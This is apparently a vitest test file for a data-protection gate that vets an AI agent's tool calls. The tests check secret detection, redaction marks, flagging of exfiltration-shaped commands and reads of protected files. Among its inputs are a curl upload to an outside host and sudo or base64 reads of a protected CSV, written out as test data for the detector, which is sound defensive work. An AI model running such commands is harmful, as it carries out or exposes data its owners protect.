import { describe, expect, it } from "vitest";
import { consult } from "../../../src/main/gate/participant";
import { DataShieldVoice } from "../../../src/main/gate/participants/data-shield";
import type { ShieldPolicy } from "../../../src/main/shield/policy";
import { request } from "../../support/gate-fakes";
import { edges, PatternScanner, PLANTED, type ShieldWorld, shieldWorld } from "../../support/shield-fakes";

const opinions = async (world: ShieldWorld, ...call: Parameters<typeof request>) =>
  (await consult(new DataShieldVoice(world.scan), request(...call))).map(({ behavior, reason, source }) => {
    expect(reason).not.toContain(PLANTED);
    return `${behavior} ${source}: ${reason}`;
  });

const HELD = "The arguments hold what must not be passed on: secret:fake";

describe("judging arguments", () => {
  it.each([
    ["ask", "ask"],
    ["block", "deny"],
    ["redact", "deny"],
  ] as const)("%s is %s", async (action, behavior) => {
    const world = shieldWorld({ edges: edges(action) });
    expect(await opinions(world, "write_file", "write", { path: "a", content: `x ${PLANTED}` })).toEqual([
      `${behavior} data-shield: ${HELD}`,
    ]);
  });

  it("says kinds and numbers, of every tool and at any depth", async () => {
    const world = shieldWorld({ edges: edges("block") });
    expect(
      await opinions(world, "mcp__x__y", "read", {
        a: [{ [PLANTED]: 1 }, PLANTED],
        b: { c: { d: PLANTED } },
      }),
    ).toEqual([`deny data-shield: ${HELD} ×3`]);
    expect(await opinions(world, "grep", "read", { pattern: PLANTED })).toHaveLength(1);
  });

  it("has no opinion of clean arguments, or when the edge is off", async () => {
    expect(await opinions(shieldWorld(), "read_file", "read", { path: "a" })).toEqual([]);
    const off = shieldWorld({ edges: { ...edges("block"), ingress: "off" } });
    expect(await opinions(off, "read_file", "read", { path: PLANTED })).toEqual([]);
  });

  it.each(["throws", "hangs"] as const)("is a deny when the scanner %s", async (trouble) => {
    const world = shieldWorld({ timeoutMs: 0 });
    world.scanner.trouble = trouble;
    expect(await opinions(world, "read_file", "read", { path: "a" })).toEqual([
      expect.stringMatching(/^deny data-shield: /),
    ]);
  });

  it("hears of a command that carries data out, and of which shape", async () => {
    const world = shieldWorld(
      { edges: edges("ask"), exfiltration: true },
      new PatternScanner(),
      (_command, script) =>
        script.commands.some(({ words }) => words[0]?.text === "curl")
          ? [{ kind: "exfiltration:upload" }]
          : [],
    );
    expect(await opinions(world, "shell", "execute", { command: "ls; curl -T x http://y" })).toEqual([
      "ask data-shield: The command has the shape of one that carries data out: exfiltration:upload",
    ]);
    expect(await opinions(world, "shell", "execute", { command: "ls" })).toEqual([]);
    world.policy = { ...world.policy, exfiltration: false };
    expect(await opinions(world, "shell", "execute", { command: "curl x" })).toEqual([]);
  });
});

describe("marks in arguments", () => {
  const MARK = "[redacted: secret:fake]";
  const ASKED = expect.stringMatching(/^ask data-shield: The arguments hold a mark/);
  const written = { path: ".env", content: `KEY=${MARK}\n` };

  it.each(["ask", "block", "redact", "off"] as const)(
    "are asked about where ingress is %s",
    async (action) => {
      const world = shieldWorld({ edges: { ...edges("redact"), ingress: action } });
      expect(await opinions(world, "write_file", "write", written)).toEqual([ASKED]);
      const edits = [{ old_text: "x", new_text: MARK }];
      expect(await opinions(world, "edit_file", "write", { path: "a", edits })).toEqual([ASKED]);
      const command = `echo '${MARK}' > .env`;
      expect(await opinions(world, "shell", "execute", { command })).toEqual([ASKED]);
      expect(await opinions(world, "grep", "read", { pattern: MARK })).toEqual([]);
      expect(await opinions(world, "write_file", "write", { path: "a", content: "[redacted: x]" })).toEqual(
        [],
      );
    },
  );

  it("lift no denial", async () => {
    const world = shieldWorld({ edges: edges("block") });
    expect(await opinions(world, "write_file", "write", { path: "a", content: MARK + PLANTED })).toEqual([
      `deny data-shield: ${HELD}`,
      ASKED,
    ]);
  });

  it("are no matter without a shield, for a tool whose arguments it passes over, or where it set them itself", async () => {
    expect(await opinions(shieldWorld({ edges: edges("off") }), "write_file", "write", written)).toEqual([]);
    const bypass = { execution: "scan", ingress: "bypass", egress: "scan" } as const;
    const world = shieldWorld({ tools: new Map([["write_file", bypass]]) });
    expect(await opinions(world, "write_file", "write", written)).toEqual([]);
    const proposed = request("write_file", "write", { path: ".env", content: PLANTED });
    const rewritten = { ...proposed, arguments: written, earlier: [proposed.arguments] };
    expect(await shieldWorld({ edges: edges("redact") }).scan.judge(rewritten)).toEqual([]);
  });
});

describe("single tools", () => {
  const tools = (shield: Partial<{ execution: "bypass" | "deny"; ingress: "bypass" | "deny" }>) =>
    new Map([["shell", { execution: "scan", ingress: "scan", egress: "scan", ...shield } as const]]);

  it.each([
    ["execution", "The data shield's settings don't let shell run"],
    ["ingress", "The data shield's settings let nothing be passed to shell"],
  ] as const)("deny %s", async (part, reason) => {
    const world = shieldWorld({ edges: edges("off"), tools: tools({ [part]: "deny" }) });
    expect(await opinions(world, "shell", "execute", { command: "ls" })).toEqual([
      `deny data-shield: ${reason}`,
    ]);
    expect(await opinions(world, "glob", "read", { pattern: "*" })).toEqual([]);
  });

  it("bypass of ingress passes over arguments, bypass of execution over what a command does", async () => {
    const policy: Partial<ShieldPolicy> = { edges: edges("block"), exfiltration: true };
    const shapes = () => [{ kind: "exfiltration:upload" }];
    const both = { command: PLANTED };
    const world = shieldWorld(
      { ...policy, tools: tools({ ingress: "bypass" }) },
      new PatternScanner(),
      shapes,
    );
    expect(await opinions(world, "shell", "execute", both)).toEqual([
      expect.stringContaining("exfiltration"),
    ]);
    world.policy = { ...world.policy, tools: tools({ execution: "bypass" }) };
    expect(await opinions(world, "shell", "execute", both)).toEqual([`deny data-shield: ${HELD}`]);
  });
});

describe("protected files", () => {
  const world = shieldWorld({
    edges: edges("ask"),
    assets: [
      { path: "data/*.csv", kind: "dataset" },
      { path: "plans/**", kind: "document" },
      { path: "data/fake.csv", kind: "synthetic" },
      { path: "spec/**", kind: "spec" },
    ],
  });
  const READS = "ask data-shield: It reads, or may read, protected data: ";

  it.each([
    ["read_file", { path: "data/people.csv" }, "dataset"],
    ["read_file", { path: "./data/../data/people.csv" }, "dataset"],
    ["read_file", { path: "plans/2031/secret.md" }, "document"],
    ["read_file", { path: "data/fake.csv" }, "dataset"],
    ["grep", { pattern: "x", path: "data/people.csv" }, "dataset"],
    ["grep", { pattern: "x", path: "data" }, "dataset"],
    ["shell", { command: "cat data/people.csv" }, "dataset"],
    ["shell", { command: "cd data && sudo head -n1 people.csv | base64" }, "dataset"],
    ["shell", { command: "python3 -c 'x' < data/people.csv" }, "dataset"],
    ["shell", { command: "cat data/*" }, "dataset"],
    ["shell", { command: "awk -F, '{print $2}' data/people.csv" }, "dataset"],
    ["shell", { command: "grep -n Ada ./data/people.csv" }, "dataset"],
    ["shell", { command: "while read -r line; do echo $line; done < data/people.csv" }, "dataset"],
    ["shell", { command: "f=data/people.csv; sort $f | uniq -c" }, "dataset"],
    ["shell", { command: "sudo sh -c 'less data/people.csv'" }, "dataset"],
    ["shell", { command: "git show HEAD:data/people.csv" }, "dataset"],
    ["shell", { command: "cp -r plans /tmp/x" }, "document"],
  ])("asks about %s %j", async (tool, args, kind) => {
    const effect = tool === "shell" ? "execute" : "read";
    expect(await opinions(world, tool, effect, args)).toEqual([READS + kind]);
  });

  it.each([
    ["read_file", { path: "spec/columns.md" }],
    ["read_file", { path: "src/data.csv" }],
    ["shell", { command: "cat spec/columns.md" }],
    ["grep", { pattern: "x" }],
    ["grep", { pattern: "x", path: "." }],
    ["grep", { pattern: "x", path: "src" }],
    ["shell", { command: "ls" }],
    ["write_file", { path: "data/new.csv", content: "a" }],
  ])("has nothing against %s %j", async (tool, args) => {
    const effect = tool === "shell" ? "execute" : tool === "write_file" ? "write" : "read";
    expect(await opinions(world, tool, effect, args)).toEqual([]);
  });
});
